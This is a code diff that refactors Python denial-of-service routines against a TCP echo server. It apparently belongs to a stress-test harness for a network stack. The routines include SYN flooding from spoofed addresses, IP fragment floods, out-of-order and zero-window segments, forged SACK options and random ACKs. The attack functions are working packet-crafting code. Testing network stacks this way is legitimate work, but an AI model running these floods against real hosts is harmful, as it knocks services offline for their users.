@@ -4,6 +4,7 @@ import os
 import random
 import struct
 import time
+from typing import Any
 
 from hostile.attack import Attack, attack
 from hostile.evil import Evil
@@ -19,7 +20,15 @@ def _ready(fight: Attack) -> Evil:
     return Evil(fight.target).become_child().open_session()
 
 
-def _established(fight: Attack, evil: Evil, count: int, *, window: int = 65535, options: bytes = b"") -> list[Connection]:
+def _segment(evil: Evil, connection: Connection, at: int = 0, more_acked: int = 0, **fields: Any) -> bytes:
+    """Return a segment of a connection, `at` bytes on in its stream."""
+    source, port, seq, ack = connection
+    flags = fields.pop("flags", ACK)
+    return tcp(source, evil.target.address, (port, 7), seq + at, ack + more_acked, flags, **fields)
+
+
+def _established(fight: Attack, evil: Evil, count: int, *, window: int = 65535,
+                 options: bytes = b"") -> list[Connection]:
     """Return as many connections to the echo server as came about."""
     got: list[bytes] = []
     evil.on_payload = lambda payload: got.append(payload[1:]) if payload[:1] == b"\1" else None
@@ -38,8 +47,7 @@ def _established(fight: Attack, evil: Evil, count: int, *, window: int = 65535, 
                 if packet[6] == 6 and packet[53] & 18 == 18 and ends in wanted:
                     wanted.discard(ends)
                     made.append((*ends, 1001, int.from_bytes(packet[44:48]) + 1))
-        evil.ip(tcp(source, fight.target.address, (port, 7), seq, ack, ACK, window=window)
-                for source, port, seq, ack in made[-100:])
+        evil.ip(_segment(evil, connection, window=window) for connection in made[-100:])
         if not fight.going:
             break
     evil.on_payload = lambda payload: None
@@ -51,9 +59,12 @@ def syn_flood(fight: Attack) -> int:
     """20,000 SYNs a second from the addresses of one /64."""
     evil, rnd = _ready(fight), random.Random(1)
 
+    def syn() -> bytes:
+        ports = rnd.randrange(1, 65535), 7
+        return tcp(evil.subnet + os.urandom(8), fight.target.address, ports, rnd.getrandbits(32), 0, SYN)
+
     def step() -> None:
-        evil.ip(tcp(evil.subnet + os.urandom(8), fight.target.address, (rnd.randrange(1, 65535), 7), rnd.getrandbits(32), 0, SYN)
-                for _ in range(100))
+        evil.ip(syn() for _ in range(100))
 
     fight.begin()
     return 100 * fight.repeat(step, 200)
@@ -103,7 +114,8 @@ def fragments(fight: Attack) -> int:
     evil, rnd = _ready(fight), random.Random(1)
 
     def step() -> None:
-        evil.ip(fragment(evil.address, fight.target.address, rnd.getrandbits(32), index, True, bytes(8)) for index in range(50))
+        ends = evil.address, fight.target.address
+        evil.ip(fragment(*ends, rnd.getrandbits(32), index, True, bytes(8)) for index in range(50))
 
     fight.begin()
     return 50 * fight.repeat(step, 400)
@@ -115,9 +127,8 @@ def out_of_order(fight: Attack) -> int:
     evil = _ready(fight)
     fight.begin()
     made = _established(fight, evil, 300, options=b"\2\4\xff\xc3\3\3\7")
-    for source, port, seq, ack in made:
-        evil.ip(tcp(source, fight.target.address, (port, 7), seq + 60000 - 500 * index, ack, ACK, data=b"z")
-                for index in range(110))
+    for connection in made:
+        evil.ip(_segment(evil, connection, 60000 - 500 * index, data=b"z") for index in range(110))
     fight.rest()
     return len(made)
 
@@ -129,8 +140,8 @@ def unread(fight: Attack) -> int:
     fight.begin()
     made, sent = _established(fight, evil, 300, window=0), 0
     for step in range(40):
-        for source, port, seq, ack in made:
-            evil.ip([tcp(source, fight.target.address, (port, 7), seq + step * 60000, ack, ACK, window=0, data=bytes(60000))])
+        for connection in made:
+            evil.ip([_segment(evil, connection, step * 60000, window=0, data=bytes(60000))])
             sent += 60000
             if not fight.going:
                 return sent
@@ -145,9 +156,8 @@ def tiny(fight: Attack) -> int:
     fight.begin()
     made = _established(fight, evil, 40)
     while fight.going and made:
-        for source, port, seq, ack in made:
-            evil.ip(tcp(source, fight.target.address, (port, 7), seq + 1 + rnd.randrange(60000), ack, ACK, data=b"xy")
-                    for _ in range(60))
+        for connection in made:
+            evil.ip(_segment(evil, connection, 1 + rnd.randrange(60000), data=b"xy") for _ in range(60))
             sent += 60
     return sent
 
@@ -158,17 +168,16 @@ def sacks(fight: Attack) -> int:
     evil, rnd, sent = _ready(fight), random.Random(1), 0
     fight.begin()
     made = _established(fight, evil, 40, options=SMALL_SEGMENTS)
-    for source, port, seq, ack in made:
-        evil.ip(tcp(source, fight.target.address, (port, 7), seq + 60000 * step, ack, ACK | PSH, data=bytes(60000))
-                for step in range(4))
+    for connection in made:
+        evil.ip(_segment(evil, connection, 60000 * step, flags=ACK | PSH, data=bytes(60000)) for step in range(4))
 
     def holes(ack: int) -> bytes:
         starts = [ack + rnd.randrange(1, 1400) * 100 for _ in range(4)]
         return b"\1\1\5\x22" + b"".join(struct.pack(">II", start % 2**32, (start + 50) % 2**32) for start in starts)
 
     while fight.going and made:
-        for source, port, seq, ack in made:
-            evil.ip(tcp(source, fight.target.address, (port, 7), seq + 240_000, ack, ACK, options=holes(ack)) for _ in range(40))
+        for connection in made:
+            evil.ip(_segment(evil, connection, 240_000, options=holes(connection[3])) for _ in range(40))
             sent += 40
     return sent
 
@@ -181,7 +190,7 @@ def wild_acks(fight: Attack) -> int:
     made = _established(fight, evil, 10)
 
     def step() -> None:
-        for source, port, seq, ack in made:
-            evil.ip(tcp(source, fight.target.address, (port, 7), seq, ack + rnd.randrange(1, 1 << 20), ACK) for _ in range(50))
+        for connection in made:
+            evil.ip(_segment(evil, connection, more_acked=rnd.randrange(1, 1 << 20)) for _ in range(50))
 
     return 50 * len(made) * fight.repeat(step, 100)
